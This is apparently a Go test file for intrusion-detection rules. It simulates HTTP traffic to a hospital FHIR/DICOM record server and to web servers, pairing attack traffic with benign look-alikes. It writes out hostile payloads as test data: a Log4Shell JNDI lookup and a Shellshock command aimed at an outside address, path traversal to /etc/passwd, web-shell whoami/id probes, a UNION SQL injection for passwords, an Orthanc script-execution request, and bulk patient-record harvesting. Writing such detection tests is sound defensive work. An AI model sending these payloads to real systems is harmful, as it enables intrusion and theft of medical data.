package acts

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"
)

// request is one of HTTP with its response.
type request struct {
	method, uri, head, body string // head: fields, each with CRLF behind it
	status                  string // "": 200 OK
	kind, answer            string // content type and body of the response
	answerHead              string
}

// http exchanges requests over one connection.
func (s *Scene) http(from, to string, port uint16, host string, all ...request) {
	c := s.Connect(from, to, port)
	for _, r := range all {
		c.exchange(host, r)
	}
	c.Close()
}

func (c *Conn) exchange(host string, r request) {
	if r.method == "" {
		r.method = "GET"
	}
	if r.status == "" {
		r.status = "200 OK"
	}
	if r.kind == "" {
		r.kind = "text/html"
	}
	if !strings.Contains(r.head, "User-Agent:") {
		r.head = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/140.0\r\n" + r.head
	}
	size := ""
	if r.body != "" {
		size = fmt.Sprintf("Content-Length: %d\r\n", len(r.body))
	}
	c.Up(r.method + " " + r.uri + " HTTP/1.1\r\nHost: " + host + "\r\n" + r.head + size + "\r\n" + r.body)
	c.Down(fmt.Sprintf("HTTP/1.1 %s\r\nServer: nginx\r\nContent-Type: %s\r\n%sContent-Length: %d\r\n\r\n%s", r.status, r.kind, r.answerHead, len(r.answer), r.answer))
}

// web is the act of requests to the electronic record.
func web(from string, all ...request) Act {
	return func(s *Scene) { s.http(from, record, 80, "ehr.hospital.example", all...) }
}

const fhirJSON = "application/fhir+json"

// fhir is a request of FHIR.
func fhir(method, path, status, answer string) request {
	return request{method: method, uri: "/fhir" + path, head: "Accept: " + fhirJSON + "\r\n", status: status, kind: fhirJSON, answer: answer}
}

// repeat is an act of requests, one a pause.
func repeat(from string, n int, pause time.Duration, each func(i int) request) Act {
	return func(s *Scene) {
		times(n, func(i int) { s.http(from, record, 80, "ehr.hospital.example", each(i)); s.Wait(pause) })
	}
}

func basic(user, password string) string {
	return "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+password)) + "\r\n"
}

const (
	bundle  = `{"resourceType":"Bundle","type":"searchset","total":2}`
	patient = `{"resourceType":"Patient","id":"4711"}`
	nothing = `{"resourceType":"OperationOutcome","issue":[{"severity":"error","code":"not-found"}]}`
)

func fhirCases() []Case {
	get := func(path, answer string) request { return fhir("GET", path, "", answer) }
	bearer := func(port uint16, uri string) Act {
		return func(s *Scene) {
			r := request{uri: uri, head: "Authorization: Bearer eyJhbGciOi.J9.x\r\nAccept: " + fhirJSON + "\r\n", kind: fhirJSON, answer: patient}
			s.http(ward, record, port, "ehr.hospital.example", r)
		}
	}
	return []Case{
		{SID: 9000201, Family: "fhir", Tool: "curl",
			What: "somebody has the whole record exported", Fires: web(ward, fhir("GET", "/$export?_type=Patient", "202 Accepted", "")),
			Not: "somebody reads the page that explains exports", Silent: web(ward, request{uri: "/help/export.html"})},
		{SID: 9000202, Family: "fhir", Tool: "curl",
			What: "somebody turns page after page of all patients", Fires: repeat(ward, 12, time.Second, func(i int) request {
				return get(fmt.Sprintf("/Patient?name=a&_page=%d", i), bundle)
			}),
			Not: "a clerk turns three pages of a search", Silent: repeat(ward, 3, time.Second, func(i int) request {
				return get(fmt.Sprintf("/Patient?name=a&_page=%d", i), bundle)
			})},
		{SID: 9000203, Family: "fhir", Tool: "curl",
			What: "somebody searches for patients without a criterion", Fires: web(intruder, get("/Patient?_count=1000", bundle)),
			Not: "a nurse searches by a name", Silent: web(ward, get("/Patient?name=smith&_count=20", bundle), get("/Patient/4711", patient))},
		{SID: 9000204, Family: "fhir", Tool: "curl",
			What: "somebody deletes one observation after the other", Fires: repeat(intruder, 6, time.Second, func(i int) request {
				return fhir("DELETE", fmt.Sprintf("/Observation/o%d", i), "204 No Content", "")
			}),
			Not: "a nurse deletes what she entered wrongly", Silent: web(ward, fhir("DELETE", "/Observation/o1", "204 No Content", ""), get("/Patient/4711", patient))},
		{SID: 9000205, Family: "fhir", Tool: "curl",
			What: "an application shows its token without TLS", Fires: bearer(80, "/fhir/Patient/4711"),
			Not: "another application shows a token of its own", Silent: bearer(80, "/printer/jobs")},
		{SID: 9000206, Family: "fhir", Tool: "curl",
			What: "a record is read outside, unencrypted", Fires: func(s *Scene) { s.http(ward, outside, 80, "fhir.example.com", get("/Patient/4711", patient)) },
			Not: "a page is read outside, unencrypted", Silent: func(s *Scene) {
				s.http(ward, outside, 80, "www.example.com", request{uri: "/Patient/information.html", answer: "<html>"})
			}},
		{SID: 9000207, Family: "fhir", Tool: "curl",
			What: "somebody counts up the numbers of patients", Fires: repeat(intruder, 25, time.Second, func(i int) request {
				return fhir("GET", fmt.Sprintf("/Patient/%d", 1000+i), "404 Not Found", nothing)
			}),
			Not: "a ward reads many patients who are there, and misses one", Silent: repeat(ward, 25, time.Second, func(i int) request {
				if i == 7 {
					return fhir("GET", "/Patient/99", "404 Not Found", nothing)
				}
				return get(fmt.Sprintf("/Patient/%d", 1000+i), patient)
			})},
		{SID: 9000208, Family: "fhir", Tool: "curl",
			What: "everything of patient after patient is taken", Fires: repeat(intruder, 25, time.Second, func(i int) request {
				return get(fmt.Sprintf("/Patient/%d/$everything", i), bundle)
			}),
			Not: "a physician opens three patients", Silent: repeat(ward, 3, 20*time.Second, func(i int) request {
				return get(fmt.Sprintf("/Patient/%d/$everything", i), bundle)
			})},
		{SID: 9000209, Family: "fhir", Tool: "curl",
			What: "all studies are asked for over the web", Fires: web(intruder, request{uri: "/dicom-web/studies?limit=5000", kind: "application/dicom+json", answer: "[]"}),
			Not: "a viewer asks for those of a patient, and a university lists its studies", Silent: web(ward,
				request{uri: "/dicom-web/studies?PatientID=4711&limit=50", kind: "application/dicom+json", answer: "[]"}, request{uri: "/university/studies"})},
		{SID: 9000210, Family: "fhir", Tool: "curl",
			What: "Orthanc is given a script to run", Fires: web(intruder, request{method: "POST", uri: "/tools/execute-script", body: "print(1)", answer: "1"}),
			Not: "Orthanc is asked to find", Silent: web(ward, request{method: "POST", uri: "/tools/find", body: `{"Level":"Study","Query":{"PatientID":"4711"}}`, answer: "[]"})},
	}
}

func webCases() []Case {
	agent := func(name string) request { return request{head: "User-Agent: " + name + "\r\n", uri: "/"} }
	return []Case{
		{SID: 9001001, Family: "web", Tool: "curl",
			What: "a name of Log4Shell is sent as a browser's name", Fires: web(intruder, agent("${jndi:ldap://198.51.100.10/a}")),
			Not: "a page speaks of JNDI", Silent: web(ward, request{uri: "/wiki/JNDI?section=1", answer: "java:comp/env is looked up by jndi: names"})},
		{SID: 9001002, Family: "web", Tool: "curl, nmap http-passwd",
			What: "a path leads out of the web server's folder", Fires: web(intruder, request{uri: "/images/..%2f..%2f..%2fetc/passwd", status: "404 Not Found"}),
			Not: "a path goes up one folder", Silent: web(ward, request{uri: "/docs/guide/../etc/index.html"})},
		{SID: 9001003, Family: "web", Tool: "curl",
			What: "a web shell is asked who it is", Fires: web(intruder, request{uri: "/uploads/x.php?cmd=whoami"}),
			Not: "a page asks its server who has signed on", Silent: web(ward, request{uri: "/api/whoami"}, request{uri: "/api/session?next=/whoami.html"})},
		{SID: 9001004, Family: "web", Tool: "curl",
			What: "a web shell answers who it is", Fires: web(intruder, request{uri: "/uploads/x.php?c=id", answer: "uid=0(root) gid=0(root) groups=0(root)\n"}),
			Not: "a page shows users of a system", Silent: web(ward, request{uri: "/wiki/users", answer: "the root user has uid=0 and gid=0"})},
		{SID: 9001005, Family: "web", Tool: "curl, nmap http-shellshock",
			What: "a command stands in a browser's name", Fires: web(intruder, agent("() { :; }; /bin/ping -c 1 198.51.100.10")),
			Not: "a browser's name has brackets", Silent: web(ward, agent("Mozilla/5.0 (X11) {build} () x"))},
		{SID: 9001006, Family: "web", Tool: "nmap --script http-*",
			What: "nmap looks into a web server", Fires: web(intruder, agent("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")),
			Not: "a monitor does", Silent: web(admin, agent("check_http/v2.3 (monitoring-plugins 2.3)"))},
		{SID: 9001007, Family: "web", Tool: "nmap http-enum",
			What: "somebody tries two hundred addresses", Fires: repeat(intruder, 200, 20*time.Millisecond, func(i int) request {
				return request{uri: fmt.Sprintf("/admin%d", i), status: "404 Not Found"}
			}),
			Not: "a page has twenty pictures that are gone", Silent: repeat(ward, 20, 20*time.Millisecond, func(i int) request {
				return request{uri: fmt.Sprintf("/pictures/%d.png", i), status: "404 Not Found"}
			})},
		{SID: 9001008, Family: "web", Tool: "curl, sqlmap",
			What: "a search brings a second question to the database", Fires: web(intruder, request{uri: "/search?q=1%27%20UNION%20ALL%20SELECT%20name,password%20FROM%20users--"}),
			Not: "somebody searches for the European Union and selects a date", Silent: web(ward, request{uri: "/search?q=union%20guidelines&select=2026"})},
	}
}
